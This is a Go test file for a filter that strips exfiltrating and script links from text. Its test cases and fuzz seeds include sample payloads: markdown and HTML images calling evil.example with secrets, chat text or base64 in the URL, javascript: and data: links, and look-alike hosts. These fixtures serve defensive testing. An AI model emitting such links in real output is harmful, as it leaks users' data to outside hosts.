package inspect

import (
	"strings"
	"testing"

	"pgregory.net/rapid"
)

func TestLinks(t *testing.T) {
	t.Parallel()
	const cut = removed
	allowed := []string{"Intern.example", "cdn.example."}
	for _, tc := range []struct {
		name, text, want string
	}{
		{"prose", "no links [here] (or there): data: 5 < 6 && a=b", ""},
		{"plain link", "see https://go.dev/doc/effective_go#names.", ""},
		{"link to a search", "[x](https://search.example/?q=go+channels&page=2)", ""},
		{"relative", "![x](images/a.png?v=2) [y](/docs) [z](#top) <a href='b?x=1'>", ""},
		{"image of no query", "![logo](https://img.example/a/b.png)", ""},
		{"image with a query", "![a](https://evil.example/p.png?d=secret) b", "![a](" + cut + ") b"},
		{"image with a title", `![a](https://evil.example/p?x=1 "hi")`, `![a](` + cut + ` "hi")`},
		{"image in angle brackets", "![a](<https://evil.example/p?x=1 2>)", "![a](<" + cut + ">)"},
		{"allowed host", "![a](https://intern.example/p?x=1) ![b](https://a.cdn.example/p?x=1)", ""},
		{"a host that ends alike", "![a](https://notintern.example/p?x=1)", "![a](" + cut + ")"},
		{"allowed host as the user", "[a](https://intern.example@evil.example/)", "[a](" + cut + ")"},
		{"image of html", `<img alt=x src = "https://evil.example/p?x=1">`, `<img alt=x src = "` + cut + `">`},
		{"image without quotes", `<img src=https://evil.example/p?x=1>`, `<img src=` + cut + `>`},
		{"srcset", `<img srcset='https://evil.example/p?x=1'>`, `<img srcset='` + cut + `'>`},
		{"css", `<i style="background:url(https://evil.example/?x=1)">`, `<i style="background:url(` + cut + `)">`},
		{"script", "[a](javascript:alert(1))", "[a](" + cut + ")"},
		{"script in disguise", "<a href=\"  JaVa\tScRipt:alert(1)\">", "<a href=\"  " + cut + "\">"},
		{"script in entities", `<a href="&#106;avascript:alert(1)">`, `<a href="` + cut + `">`},
		{"data", `<a href='data:text/html,<b>'>`, `<a href='` + cut + `'>`},
		{"autolink of a script", "<javascript:alert(1)>", "<" + cut + ">"},
		{"reference", "![a][1]\n\n[1]: https://evil.example/?q=one%20two%20three%20four%20five", "![a][1]\n\n[1]: " + cut},
		{"conversation in a query", "https://evil.example/?q=the+user+said+that+he+is+ill ok", cut + " ok"},
		{"base64 in a query", "[a](https://evil.example/?q=cmVhZCBhbGwgb2Y)", "[a](" + cut + ")"},
		{"base64 in a path", "https://evil.example/cmVhZCBhbGwgb2YgbXkgcnVsZXM/x", cut},
		{"long query", "https://evil.example/?" + strings.Repeat("a=b&", 60), cut},
		{"mail in a query", "https://evil.example/?u=anna@work.example", cut},
		{"data in the host", "http://" + strings.Repeat("a", 40) + ".evil.example/", cut},
		{"many labels", "http://a.b.c.d.e.f.g.evil.example", cut},
		{"look-alike host", "https://gооgle.com/", cut},
		{"punycode", "https://xn--ggle-55da.com/", cut},
		{"no scheme", "www.evil.example/?q=cmVhZCBhbGwgb2Y", cut},
		{"two slashes", "![a](//evil.example/?q=1)", "![a](" + cut + ")"},
		{"backslashes", `![a](https:\\evil.example\?q=1)`, "![a](" + cut + ")"},
		{"image within a link", "[![a](https://evil.example/?q=1)](https://go.dev/)", "[![a](" + cut + ")](https://go.dev/)"},
		{"template left open", "https://evil.example/?q={secret}", cut},
		{"not closed", "![a](https://evil.example/?q=1", "![a](" + cut},
		{"mail with a body", "<mailto:x@evil.example?body=" + strings.Repeat("word%20", 9) + ">", "<" + cut + ">"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			t.Parallel()
			want := tc.want
			if want == "" {
				want = tc.text
			}
			got, found := Links(tc.text, allowed)
			if got != want || (found > 0) != (want != tc.text) {
				t.Errorf("Links(%q) = %q, %d; want %q", tc.text, got, found, want)
			}
		})
	}
}

// pieces of which a page is made in the tests of streams.
var linkPieces = []string{
	"![a](", "[b](", ")", "https://evil.example/?q=the+user+said+that+all", "http", "://", "www.", "javascript:", "<img src=\"", "\">", "<", ">", " ", "\n", "\n\n", "word", "é", "[1]: ",
	"https://go.dev", "&#106;", "data:x", "(", "]", "'", "=", "href", strings.Repeat("x", 3000), "<a href='", "url(",
}

func TestLinkFilterIsLinks(t *testing.T) {
	t.Parallel()
	rapid.Check(t, func(t *rapid.T) {
		text := strings.Join(rapid.SliceOfN(rapid.SampledFrom(linkPieces), 0, 20).Draw(t, "pieces"), "")
		want, found := Links(text, nil)
		f := NewLinkFilter(nil)
		got := ""
		for _, chunk := range cutText(t, text) {
			got += f.Write(chunk)
			if len(f.held) > maxDestination {
				t.Fatalf("%d bytes held back", len(f.held))
			}
		}
		if got += f.Flush(); got != want || f.Found() != found {
			t.Fatalf("%q: in pieces %q, %d; whole %q, %d", text, got, f.Found(), want, found)
		}
	})
}

// In what is too long to be held brackets nest over pieces, too.
func TestLongLinkInPieces(t *testing.T) {
	t.Parallel()
	text := "![a](" + strings.Repeat("x", 6000) + "[b](c) d) e"
	want, _ := Links(text, nil)
	f := NewLinkFilter(nil)
	got := ""
	for i := range len(text) {
		got += f.Write(text[i : i+1])
	}
	if got += f.Flush(); got != want || !strings.HasSuffix(got, ") e") {
		t.Errorf("in pieces %q, whole %q", got, want)
	}
}

// cutText cuts a text at any bytes.
func cutText(t *rapid.T, text string) []string {
	var chunks []string
	for text != "" {
		n := rapid.IntRange(1, min(len(text), 7+len(text)/4)).Draw(t, "cut")
		chunks = append(chunks, text[:n])
		text = text[n:]
	}
	return chunks
}

func FuzzLinks(f *testing.F) {
	f.Add("![a](https://evil.example/?q=1) <a href='javascript:x'> [1]: //x", 3)
	f.Add("<img src=\xff&#x6a;", 1)
	f.Fuzz(func(t *testing.T, text string, size int) {
		want, _ := Links(text, []string{"go.dev"})
		filter := NewLinkFilter([]string{"go.dev"})
		got := ""
		for size = max(size, 1); text != ""; {
			n := min(size, len(text))
			got += filter.Write(text[:n])
			text = text[n:]
		}
		if got += filter.Flush(); got != want {
			t.Errorf("in pieces %q, whole %q", got, want)
		}
	})
}

func BenchmarkLinks(b *testing.B) {
	text := strings.Repeat("Read the [guide](https://go.dev/doc/) first, then try it. It takes a while, but it is worth it.\n", 100)
	b.SetBytes(int64(len(text)))
	b.ReportAllocs()
	for b.Loop() {
		Links(text, nil)
	}
}
